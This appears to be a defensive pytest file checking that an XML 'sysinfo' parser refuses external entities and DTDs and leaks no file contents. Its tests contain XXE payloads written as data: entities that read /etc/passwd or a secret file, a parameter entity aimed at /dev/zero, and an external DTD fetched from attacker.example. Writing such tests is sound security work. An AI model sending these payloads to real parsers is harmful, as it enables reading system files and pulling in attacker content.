"""External entities and DTDs are refused and never fetched: /etc/passwd stays unread."""
from .samples import failure


def test_external_entity_to_etc_passwd(tmp_path):
    doc = (b'<?xml version="1.0"?><!DOCTYPE sysinfo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           b"<sysinfo><header><generated>&xxe;</generated></header></sysinfo>")
    exc = failure(doc)
    assert exc.status == "external_entity"
    assert "root:" not in str(exc)


def test_external_entity_content_never_reaches_the_report(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-2024-01-01T00:00:00")
    doc = (f'<!DOCTYPE sysinfo [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'
           "<sysinfo><header><generated>&s;</generated></header></sysinfo>").encode()
    exc = failure(doc)
    assert exc.status == "external_entity" and "TOP-SECRET" not in str(exc)


def test_parameter_entity_is_refused():
    doc = b'<!DOCTYPE sysinfo [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]><sysinfo/>'
    assert failure(doc).status == "external_entity"


def test_external_dtd_is_refused():
    doc = b'<!DOCTYPE sysinfo SYSTEM "http://attacker.example/x.dtd"><sysinfo/>'
    assert failure(doc).status == "external_entity"


def test_public_dtd_is_refused():
    doc = b'<!DOCTYPE sysinfo PUBLIC "-//X//DTD X//EN" "x.dtd"><sysinfo/>'
    assert failure(doc).status == "external_entity"
